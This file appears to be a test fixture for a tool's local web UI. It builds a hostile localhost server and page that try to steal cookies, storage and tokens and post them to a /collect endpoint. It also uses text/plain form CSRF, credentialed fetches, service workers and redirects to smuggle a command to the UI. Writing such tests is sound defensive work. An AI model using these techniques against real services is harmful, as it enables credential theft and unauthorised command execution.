/** A hostile server on another port of 127.0.0.1, whose page tries to get at the page of `oldhand ui` in the same browser. */
import { once } from "node:events";
import { createServer, type IncomingHttpHeaders } from "node:http";
import type { AddressInfo } from "node:net";
import type { TestContext } from "node:test";
import type { BrowserContext, Page } from "playwright-core";
import { patience } from "../../fixtures/patience.ts";

type Collected = { readonly url: string; readonly headers: IncomingHttpHeaders; readonly body: string };

export type HostileServer = {
  readonly port: number;
  /** Every request it got, from any page. */
  readonly collected: readonly Collected[];
  /** Everything that could be a credential: each header value and body, and each part of them. */
  secrets(): readonly string[];
  cookies(): string;
};

const SHORTEST_SECRET = 8;

export async function hostileServer(t: Pick<TestContext, "after">, target: number): Promise<HostileServer> {
  const collected: Collected[] = [];
  const server = createServer((request, response) => {
    let body = "";
    request.setEncoding("utf8").on("data", (part) => {
      body += part;
    });
    request.on("end", () => {
      const { url = "/", headers } = request;
      collected.push({ url, headers, body });
      if (url.startsWith("/redirect")) {
        const to = new URL(url, "http://here").searchParams.get("to") ?? "/";
        return void response.writeHead(302, { location: `http://127.0.0.1:${target}${to}` }).end();
      }
      const isWorker = url === "/worker.js";
      response.writeHead(200, {
        "content-type": isWorker ? "text/javascript" : "text/html",
        "service-worker-allowed": "/",
        "access-control-allow-origin": headers.origin ?? "*",
        "access-control-allow-credentials": "true",
        "access-control-allow-headers": "authorization, content-type, x-oldhand-page",
      });
      response.end(
        isWorker ? "onfetch = (event) => event.respondWith(fetch(event.request))" : "<title>hostile</title>",
      );
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return {
    port: (server.address() as AddressInfo).port,
    collected,
    secrets() {
      const texts = collected.flatMap(({ url, headers, body }) => [url, body, ...Object.values(headers).map(String)]);
      return [...new Set(texts.flatMap((text) => [text, ...text.split(/[\s;,&?=#"']+/)]))].filter(
        (one) => one.length >= SHORTEST_SECRET,
      );
    },
    cookies: () => [...new Set(collected.map(({ headers }) => headers.cookie ?? ""))].filter(Boolean).join("; "),
  };
}

/** Opens the hostile page in the same browser, and returns what its scripts could read of the other server. */
export async function visitHostilePage(
  context: BrowserContext,
  { port, target, routes }: { port: number; target: number; routes: readonly { method: string; path: string }[] },
): Promise<{ readonly page: Page; readonly read: readonly string[] }> {
  const page = await context.newPage();
  await page.goto(`http://127.0.0.1:${port}/`);
  const read = await page.evaluate(attackFromPage, { target, routes, patienceMs: patience(3000) });
  // The browser says `sec-fetch-site: none` after such a redirect, because a person typed the first address.
  for (const to of ["/api/status", "/api/live"]) {
    const redirected = await context.newPage();
    const url = `http://127.0.0.1:${port}/redirect?to=${encodeURIComponent(to)}`;
    const answer = await redirected.goto(url, { waitUntil: "commit" });
    if (answer?.ok()) read.push(`redirect ${to}`);
    await redirected.close();
  }
  return { page, read };
}

/** Runs in the hostile page. */
async function attackFromPage({
  target,
  routes,
  patienceMs,
}: {
  target: number;
  patienceMs: number;
  routes: readonly { method: string; path: string }[];
}): Promise<string[]> {
  const there = `http://127.0.0.1:${target}`;
  const found: string[] = [];
  const within = <T>(work: Promise<T>): Promise<T | undefined> =>
    Promise.race([work.catch(() => undefined), new Promise<undefined>((resolve) => setTimeout(resolve, patienceMs))]);
  const collect = (text: string) =>
    fetch("/collect", { method: "POST", credentials: "include", body: text }).then(() => undefined);

  await within(navigator.serviceWorker.register("/worker.js", { scope: "/" }).then(() => undefined));
  await collect([document.cookie, JSON.stringify(sessionStorage), JSON.stringify(localStorage)].join("\n"));

  const channel = new BroadcastChannel("oldhand");
  channel.onmessage = ({ data }) => {
    found.push(`channel: ${JSON.stringify(data)}`);
    void collect(JSON.stringify(data));
  };
  for (const asked of ["token?", "token", "key", { ask: "token" }]) channel.postMessage(asked);

  const element = async (name: "img" | "script" | "iframe" | "link", url: string): Promise<void> => {
    const made = document.createElement(name);
    const loaded = new Promise<boolean>((resolve) => {
      made.onload = () => resolve(true);
      made.onerror = () => resolve(false);
    });
    if (made instanceof HTMLLinkElement) {
      made.rel = "stylesheet";
      made.href = url;
    } else made.src = url;
    document.body.append(made);
    const isLoaded = await within(loaded);
    if (made instanceof HTMLIFrameElement) {
      try {
        if (made.contentDocument?.body.textContent) found.push(`iframe ${url}`);
      } catch {
        // Another origin: nothing can be read.
      }
    } else if (isLoaded === true) found.push(`${name} ${url}`);
  };
  await Promise.all([
    element("img", `${there}/icon.svg`),
    element("img", `${there}/api/status`),
    element("script", `${there}/app.js`),
    element("link", `${there}/style.css`),
    element("iframe", `${there}/`),
    element("iframe", `/redirect?to=/`),
    element("img", "/redirect?to=/icon.svg"),
  ]);

  for (const [method, path] of [
    ["POST", "/api/ask/command"],
    ["GET", "/"],
  ] as const) {
    const form = document.createElement("form");
    Object.assign(form, { method, action: there + path, enctype: "text/plain", target: "form-target" });
    const field = document.createElement("input");
    Object.assign(field, { name: '{"command":"echo form > hostile.txt","x":"', value: '"}' });
    form.append(field);
    const frame = document.createElement("iframe");
    frame.name = "form-target";
    document.body.append(form, frame);
    form.submit();
  }

  const opened = window.open(`${there}/`);
  await new Promise((resolve) => setTimeout(resolve, patienceMs / 6));
  try {
    if (opened?.document.body.textContent) found.push("window.open");
    if (opened?.sessionStorage.length) await collect(JSON.stringify(opened.sessionStorage));
  } catch {
    // Another origin: nothing can be read.
  }

  const stream = new EventSource(`${there}/api/live`, { withCredentials: true });
  stream.onopen = () => found.push("EventSource");

  for (const { method, path } of routes) {
    for (const mode of ["cors", "no-cors"] as const) {
      const body = method === "POST" ? { body: '{"command":"echo fetch > hostile.txt"}' } : {};
      const headers = mode === "cors" ? { "x-oldhand-page": "1", "content-type": "application/json" } : {};
      const answer = await within(fetch(there + path, { method, mode, credentials: "include", headers, ...body }));
      if (answer !== undefined) found.push(`${mode} ${method} ${path}: ${answer.type} ${answer.status}`);
    }
  }
  stream.close();
  return found;
}
